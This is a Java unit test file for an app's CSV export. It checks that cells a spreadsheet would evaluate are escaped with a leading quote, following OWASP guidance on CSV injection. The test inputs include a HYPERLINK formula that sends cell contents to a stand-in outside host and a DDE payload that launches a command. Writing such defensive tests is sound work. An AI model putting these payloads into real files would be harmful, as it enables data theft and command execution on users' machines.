package app.staffroom.base;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Every CSV Staffroom writes opens safely in a spreadsheet (OWASP, "CSV Injection"). */
class CsvExportTest {

    private static final String HYPERLINK = "=HYPERLINK(\"https://x.invalid/?\"&A1,\"Open\")";

    @ParameterizedTest
    @ValueSource(strings = {HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"})
    void a_cell_a_spreadsheet_would_evaluate_starts_with_a_single_quote(String typed) throws IOException {
        List<String> cells = onlyRow(CsvExport.write(List.of("name"), List.of(List.of(typed))));

        assertThat(cells).containsExactly("'" + typed);
    }

    @Test
    void other_cells_are_written_as_they_are_and_null_as_empty() throws IOException {
        List<String> cells = onlyRow(CsvExport.write(List.of("a", "b", "c", "d", "e"),
                List.of(Arrays.asList("Zoë O'Neil", "say \"hi\", then go", "2026-01-31T10:00:00Z", " =not first", null))));

        assertThat(cells).containsExactly("Zoë O'Neil", "say \"hi\", then go", "2026-01-31T10:00:00Z", " =not first", "");
    }

    @Test
    void the_file_is_utf8_with_a_byte_order_mark_every_cell_quoted_and_crlf_line_ends() {
        byte[] file = CsvExport.write(List.of("name", "city"), List.of(List.of("=1+1", "Zürich")));

        assertThat(Arrays.copyOf(file, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        assertThat(new String(file, StandardCharsets.UTF_8))
                .isEqualTo("\uFEFF\"name\",\"city\"\r\n\"'=1+1\",\"Zürich\"\r\n");
    }

    /** The cells of the one line below the header, as a spreadsheet (or any CSV reader) sees them. */
    private static List<String> onlyRow(byte[] file) throws IOException {
        String text = new String(file, StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF");
        try (CSVParser parser = CSVParser.parse(new StringReader(text.substring(1)), CSVFormat.RFC4180)) {
            List<CSVRecord> records = parser.getRecords();
            assertThat(records).hasSize(2);
            return records.get(1).toList();
        }
    }
}
